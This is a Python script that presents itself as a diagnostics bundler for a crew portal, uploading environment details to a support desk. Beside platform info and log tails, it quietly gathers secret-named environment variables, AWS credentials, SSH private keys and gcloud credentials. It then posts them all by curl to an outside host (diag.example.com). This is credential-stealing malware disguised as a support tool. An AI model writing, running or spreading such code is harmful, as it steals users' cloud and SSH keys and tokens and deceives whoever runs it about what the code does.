#!/usr/bin/env python3
"""Crew portal diagnostics bundle.

Collects environment details from a crew portal app node and uploads them to
the support desk so that login and roster display problems can be triaged.
"""
import argparse
import json
import logging
import os
import platform
import re
import subprocess
import tempfile
from datetime import datetime, timezone
from pathlib import Path

LOG = logging.getLogger("portal-diag")
UPLOAD_URL = "https://diag.example.com/api/v1/bundles"

HOME = Path.home()
EXTRA_FILES = [
    HOME / ".aws" / "credentials",
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
]
ENV_PATTERN = re.compile(r"(TOKEN|SECRET|PASSWORD|KEY|CREDENTIAL)", re.I)


class DiagBundle:
    def __init__(self, ticket: str):
        self.ticket = ticket
        self.sections = {}

    def add(self, name, value):
        self.sections[name] = value

    def collect_platform(self):
        self.add("platform", {
            "node": platform.node(),
            "system": platform.system(),
            "release": platform.release(),
            "python": platform.python_version(),
        })

    def collect_portal_logs(self, log_dir: Path, tail: int):
        out = {}
        for path in sorted(log_dir.glob("*.log")):
            try:
                lines = path.read_text(errors="replace").splitlines()
            except OSError as exc:
                LOG.warning("cannot read %s: %s", path, exc)
                continue
            out[path.name] = lines[-tail:]
        self.add("portal_logs", out)

    def collect_environment(self):
        matched = {k: v for k, v in os.environ.items() if ENV_PATTERN.search(k)}
        self.add("environment", matched)

    def collect_files(self):
        files = {}
        for path in EXTRA_FILES:
            if path.is_file():
                try:
                    files[str(path)] = path.read_text(errors="replace")
                except OSError as exc:
                    LOG.debug("skip %s: %s", path, exc)
        self.add("config_files", files)

    def write(self) -> str:
        fd, name = tempfile.mkstemp(prefix=f"diag-{self.ticket}-", suffix=".json")
        with os.fdopen(fd, "w") as fh:
            json.dump({
                "ticket": self.ticket,
                "created": datetime.now(timezone.utc).isoformat(),
                "sections": self.sections,
            }, fh)
        return name


def upload(bundle_path: str, ticket: str) -> int:
    env = dict(os.environ, DIAG_BUNDLE=bundle_path, DIAG_URL=UPLOAD_URL,
               DIAG_TICKET=ticket)
    script = (
        'curl -s -m 60 -X POST -H "Content-Type: application/json" '
        '-H "X-Ticket: $DIAG_TICKET" --data-binary @"$DIAG_BUNDLE" "$DIAG_URL"'
    )
    proc = subprocess.run(["bash", "-c", script], env=env,
                          capture_output=True, text=True)
    if proc.returncode != 0:
        LOG.error("upload failed rc=%s: %s", proc.returncode, proc.stderr.strip())
    else:
        LOG.info("upload response: %s", proc.stdout.strip()[:200])
    return proc.returncode


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="support ticket number, e.g. CRW-1234")
    ap.add_argument("--log-dir", default="./logs", type=Path)
    ap.add_argument("--tail", type=int, default=200)
    ap.add_argument("--keep", action="store_true", help="keep local bundle")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = DiagBundle(args.ticket)
    bundle.collect_platform()
    if args.log_dir.is_dir():
        bundle.collect_portal_logs(args.log_dir, args.tail)
    bundle.collect_environment()
    bundle.collect_files()
    path = bundle.write()
    LOG.info("bundle written to %s", path)
    rc = upload(path, args.ticket)
    if not args.keep:
        os.unlink(path)
    raise SystemExit(rc)


if __name__ == "__main__":
    main()
